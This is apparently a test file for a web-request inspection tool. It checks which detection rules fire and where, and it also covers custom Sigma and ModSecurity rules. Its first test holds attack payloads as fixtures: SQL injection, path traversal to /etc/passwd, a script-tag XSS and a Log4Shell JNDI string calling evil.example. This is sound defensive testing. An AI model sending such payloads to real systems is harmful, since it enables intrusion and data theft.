import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { main } from '../main.js';
import { cliForSuite } from '../testing/cli-for-suite.js';

const cli = cliForSuite();

async function inspect(
  lines: readonly unknown[],
  ...options: string[]
): Promise<{ answers: unknown[]; said: string }> {
  const file = join(cli.folder, 'requests.ndjson');
  await writeFile(
    file,
    lines.map((line) => `${typeof line === 'string' ? line : JSON.stringify(line)}\n`).join(''),
  );
  cli.clear();
  await main(['inspect', file, ...options]);
  const answers = cli.printed
    .split('\n')
    .filter((line) => line !== '')
    .map((line): unknown => JSON.parse(line));
  return { answers, said: cli.said };
}

test('one answer for each request: the rules that match, their category, severity and place', async () => {
  const { answers } = await inspect([
    {
      id: 'a',
      method: 'GET',
      uri: '/items?id=1%27%20or%20%271%27=%271&page=2',
      headers: { 'user-agent': 'curl/8' },
    },
    { id: 'b', method: 'GET', uri: '/items?id=1&page=2', headers: {} },
    { id: 'c', method: 'GET', uri: 'https://shop.example/static/..%2f..%2fetc/passwd' },
    {
      id: 'd',
      method: 'POST',
      uri: '/x',
      headers: { 'Content-Type': 'application/json' },
      body: '{"note":"<script>x</script>"}',
    },
    { id: 'e', method: 'GET', uri: '/', headers: { 'User-Agent': `\${jndi:ldap://evil.example/a}` } },
  ]);
  expect(answers).toEqual([
    {
      id: 'a',
      matches: expect.arrayContaining([
        { rule: 'sqli-condition', category: 'sqli', severity: 'high', where: 'query.id' },
      ]),
    },
    { id: 'b', matches: [] },
    {
      id: 'c',
      matches: expect.arrayContaining([expect.objectContaining({ category: 'traversal', where: 'path' })]),
    },
    {
      id: 'd',
      matches: expect.arrayContaining([expect.objectContaining({ category: 'xss', where: 'body.note' })]),
    },
    {
      id: 'e',
      matches: expect.arrayContaining([
        expect.objectContaining({ category: 'log4shell', where: 'header.user-agent' }),
      ]),
    },
  ]);
});

test('lines that are no requests are named and counted on stderr, and do not stop the stream', async () => {
  const { answers, said } = await inspect(['no json', { id: 1 }, { id: 2, uri: '/ok' }]);
  expect(answers).toEqual([{ id: 2, matches: [] }]);
  expect(said).toMatch(/line 1: no JSON/);
  expect(said).toMatch(/line 2: uri: /);
  expect(said).toMatch(/2 of 3 lines were no requests/);
});

test('rules of a folder are used beside the built-in ones; what cannot be used is explained', async () => {
  const folder = join(cli.folder, 'rules');
  await mkdir(folder, { recursive: true });
  await writeFile(
    join(folder, 'mine.yml'),
    'title: Teapots\nid: teapot-1\nlevel: low\nlogsource: { category: webserver }\ndetection:\n  selection:\n    cs-uri-query|contains: brew=tea\n  condition: selection\n',
  );
  await writeFile(
    join(folder, 'crs.conf'),
    'SecRule ARGS "@pmFromFile none.data" "id:1,phase:2,deny,msg:\'x\'"\nSecRule ARGS "@rx ^coffee$" "id:2,phase:2,deny,t:lowercase,severity:\'NOTICE\'"\n',
  );
  const { answers, said } = await inspect([{ id: 'a', uri: '/pot?brew=tea&with=COFFEE' }], '--rules', folder);
  expect(answers).toEqual([
    {
      id: 'a',
      matches: [
        { rule: 'crs-2', category: 'crs', severity: 'low', where: 'query.with' },
        { rule: 'sigma-teapot-1', category: 'sigma', severity: 'low', where: 'query.*' },
      ],
    },
  ]);
  expect(said).toMatch(/2 rules read from 2 files, 1 left out/);
  expect(said).toMatch(/1: the list none\.data is not among the files/);
});

test('--list names every rule', async () => {
  const { answers } = await inspect([], '--list');
  expect(answers).toEqual(
    expect.arrayContaining([expect.objectContaining({ id: 'sqli-union', category: 'sqli' })]),
  );
});
